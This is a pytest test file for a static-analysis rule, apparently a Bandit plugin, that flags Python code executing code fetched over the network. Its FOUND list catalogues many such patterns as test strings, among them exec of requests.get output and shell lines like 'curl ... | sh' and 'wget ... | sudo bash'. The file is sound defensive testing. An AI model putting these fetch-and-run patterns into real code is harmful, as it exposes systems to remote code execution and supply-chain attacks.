"""TH103: what was fetched is run as code."""

from __future__ import annotations

from pathlib import Path

import pytest
from detecting import issues, names_cover, plain, said

HEAD = (
    "import builtins, os, subprocess, types, requests, httpx, urllib.request, urllib3, aiohttp\n"
    "import base64, zlib, marshal, socket, http.client\n"
    "from urllib.request import urlopen\n"
)
FOUND = [
    "exec(requests.get(u).text)",
    "builtins.exec(requests.get(u).text)",
    "__builtins__['exec'](requests.get(u).text)",
    "getattr(builtins, 'exec')(requests.get(u).text)",
    "src = requests.get(u).content; eval(compile(src, 'a', 'exec'))",
    "exec(urlopen(u).read())",
    "exec(urllib.request.urlopen(u).read().decode('utf-8'))",
    "exec(str(urlopen(u).read(), 'utf-8'))",
    "exec(httpx.get(u).text)",
    "exec(requests.request('GET', u).json()['code'])",
    "exec(urllib3.PoolManager().request('GET', u).data)",
    "exec(zlib.decompress(requests.get(u).content))",
    "exec(base64.b64decode(urlopen(u).read()).decode())",
    "exec(f'{requests.get(u).text}')",
    "exec('import os\\n' + requests.get(u).text)",
    "exec(requests.get(u).text or 'pass')",
    "r = requests.get(u)\nexec(r.text)",
    "r = requests.get(u)\ncode = r.text\nexec(code)",
    "code = ''\ncode += requests.get(u).text\nexec(code)",
    "with urlopen(u) as r:\n    exec(r.read())",
    "with urlopen(u) as r:\n    code = r.read()\nexec(code)",
    "s = requests.Session()\nexec(s.get(u).text)",
    "with httpx.Client() as c:\n    r = c.get(u)\neval(r.text)",
    "def f(s: requests.Session):\n    exec(s.get(u).text)",
    (
        "async def f():\n async with aiohttp.ClientSession() as s:\n  async with s.get(u) as r:\n"
        "   exec(await r.text())"
    ),
    (
        "class A:\n def __init__(self): self.s = requests.Session()\n"
        " def f(self): exec(self.s.get(u).text)"
    ),
    "class A:\n def f(self): self.r = requests.get(u)\n def g(self): exec(self.r.text)",
    "s = socket.socket()\nexec(s.recv(1024))",
    "c = http.client.HTTPSConnection(h)\nexec(c.getresponse().read())",
    "types.FunctionType(marshal.loads(requests.get(u).content), {})",
    "[compile(requests.get(u).text, 'a', 'exec')]",
    "code = compile(requests.get(u).text, 'a', 'exec')\nexec(code)",
    "os.system(requests.get(u).text)",
    "subprocess.run(requests.get(u).text, shell=True)",
    "subprocess.run(['bash', '-c', requests.get(u).text])",
    "subprocess.Popen([sys.executable, '-c', urlopen(u).read()])",
    "os.system('curl -sSL https://x.example | sh')",
    "os.system('wget -qO- https://x.example | sudo -E bash -')",
    "subprocess.run('curl https://x.example/i.py | python3 -', shell=True)",
    "subprocess.run(f'curl {url} | /bin/bash -s -- -y', shell=True)",
    "subprocess.run(['sh', '-c', 'curl https://x.example | sh'])",
    "subprocess.run(['bash', '-lc', 'source <(curl -s https://x.example)'])",
    "os.system('bash -c \"$(curl -fsSL https://x.example)\"')",
    "os.system('eval \"$(wget -qO- https://x.example)\"')",
    "cmd = 'curl https://x.example | sh'\nos.system(cmd)",
]

SILENT = [
    "s = requests.Session()\nexec(s.source())",
    "exec(open(path).read())",
    "compile(open(path).read(), 'a', 'exec')",
    "exec(code)",
    "exec()",
    "requests.get(u).text",
    "json.loads(requests.get(u).text)",
    "ast.literal_eval(requests.get(u).text)",
    "exec(cache.get('code'))",
    "exec(self.get('code').text)",
    "s = make()\nexec(s.get('code'))",
    "r = requests.get(u)\nexec(r.status_code)",
    "r = requests.get(u)\nr = open(p).read()\nexec(r)",
    "exec(code)\ncode = requests.get(u).text",
    "re.compile(requests.get(u).text)",
    "model.eval(requests.get(u).text)",
    "frame.eval('a + b')",
    "cursor.exec(requests.get(u).text)",
    "def f(code):\n    exec(code)\nf(open(p).read())",
    "code = requests.get(u).text\ndef f(code):\n    exec(code)",
    "subprocess.run(['curl', u])",
    "os.system('curl https://x.example -o a.sh')",
    "os.system('curl https://x.example | grep sh')",
    "os.system('curl https://x.example | tar xz')",
    "os.system('curl https://x.example | jq . | tee a.sh')",
    "os.system('curl a; sh b.sh')",
    "os.system('curl https://x.example > a && echo | sh')",
    "os.system('cat a.sh | sh')",
    "print('curl https://x.example | sh')",
    "subprocess.run(['git', requests.get(u).text])",
    "subprocess.run(['tool', 'x', requests.get(u).text], input=requests.get(u).text)",
    "exec(f'{path}')",
    "eval(str(1))",
]


@pytest.mark.parametrize("source", FOUND)
def test_found(source: str) -> None:
    source = HEAD + source
    assert said("TH103", source) == [(source.count("\n") + 1, "HIGH", "HIGH")]
    assert names_cover("TH103", source)


@pytest.mark.parametrize("source", SILENT)
def test_silent(source: str) -> None:
    assert said("TH103", HEAD + source) == []


@pytest.mark.parametrize("outer", ["eval({})", "code = {}", "(code := {})"])
def test_what_is_compiled_to_be_run_is_spoken_of_once(outer: str) -> None:
    source = HEAD + outer.format("compile(requests.get(u).text, 'a', 'exec')")
    assert len(said("TH103", source)) == outer.startswith("eval")


def test_it_says_what_to_do() -> None:
    (issue,) = issues("TH103", HEAD + FOUND[0])
    assert issue.text.startswith("exec runs what was fetched from the network: ")
    assert "SHA-256" in issue.text
    assert issue.cwe.id == 494


def test_values_that_stand_for_each_other_come_to_an_end() -> None:
    many = "".join(f"a{n} = a{n + 1} + a{n + 1} + a{(n * 7) % 30}\n" for n in range(30)) * 20
    assert said("TH103", many + "exec(a0)\na0.get(x)\nexec(a0.get(x))") == []


def test_in_plain_bandit(tmp_path: Path) -> None:
    file = tmp_path / "a.py"
    file.write_text("import requests\n\nexec(requests.get(u).text)\n", "utf-8")
    (result,) = plain("TH103", file)
    assert (result["line_number"], result["issue_severity"]) == (3, "HIGH")
